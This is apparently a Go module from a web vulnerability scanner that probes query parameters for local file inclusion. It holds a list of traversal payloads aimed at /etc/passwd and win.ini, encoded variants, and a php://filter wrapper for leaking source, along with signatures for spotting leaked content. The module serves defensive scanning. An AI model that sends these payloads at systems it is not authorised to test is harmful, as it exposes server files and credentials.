// Package lfi detects local file inclusion: parameters whose value is
// used as a file path server-side, allowing reads outside the web root.
package lfi

import (
	"context"
	"fmt"
	"regexp"

	"github.com/webscan/webscan/pkg/finding"
	"github.com/webscan/webscan/pkg/iohelper"
	"github.com/webscan/webscan/pkg/probe"
	"github.com/webscan/webscan/pkg/regexcache"
	"github.com/webscan/webscan/pkg/session"
)

var payloads = []string{
	"../../../../etc/passwd",
	"../../../../../../etc/passwd",
	"/etc/passwd",
	"....//....//....//etc/passwd",
	"..%2f..%2f..%2f..%2fetc%2fpasswd",
	"../../../../windows/win.ini",
	"php://filter/convert.base64-encode/resource=index.php",
}

// fileSignatures match content that only appears when a sensitive file
// was actually served.
var fileSignatures = []struct {
	name    string
	pattern *regexp.Regexp
}{
	{"/etc/passwd", regexcache.MustGet(`root:.?:0:0:`)},
	{"/etc/passwd", regexcache.MustGet(`daemon:[^\n]*:/usr/sbin`)},
	{"win.ini", regexcache.MustGet(`(?i)\[fonts\]`)},
	{"php source", regexcache.MustGet(`^[A-Za-z0-9+/]{200,}={0,2}$`)},
}

// Checker is the local file inclusion probe.
type Checker struct{}

// New creates an LFI checker.
func New() *Checker { return &Checker{} }

// Name implements probe.Probe.
func (c *Checker) Name() string { return "Local File Inclusion" }

// Check injects path payloads into every query parameter and looks for
// leaked file content.
func (c *Checker) Check(ctx context.Context, s *session.Session, endpoint string) (*finding.Finding, bool) {
	for _, point := range probe.QueryPoints(endpoint) {
		for _, payload := range payloads {
			if ctx.Err() != nil {
				return nil, false
			}
			resp, _, err := probe.Send(ctx, s, point, payload)
			if err != nil {
				continue
			}
			body, _ := iohelper.ReadBodyDefault(resp.Body)
			iohelper.DrainAndClose(resp.Body)
			if resp.StatusCode >= 400 {
				continue
			}

			if name, ok := matchFile(string(body)); ok {
				return &finding.Finding{
					Type:     "Local File Inclusion",
					Severity: finding.High,
					URL:      endpoint,
					Evidence: fmt.Sprintf("parameter %s served %s content for payload %q", point.Name, name, payload),
					Description: "Local file inclusion lets attackers read arbitrary files from the server " +
						"by supplying traversal sequences or wrapper schemes as a file parameter.",
				}, true
			}
		}
	}
	return nil, false
}

func matchFile(body string) (string, bool) {
	for _, sig := range fileSignatures {
		if sig.pattern.MatchString(body) {
			return sig.name, true
		}
	}
	return "", false
}
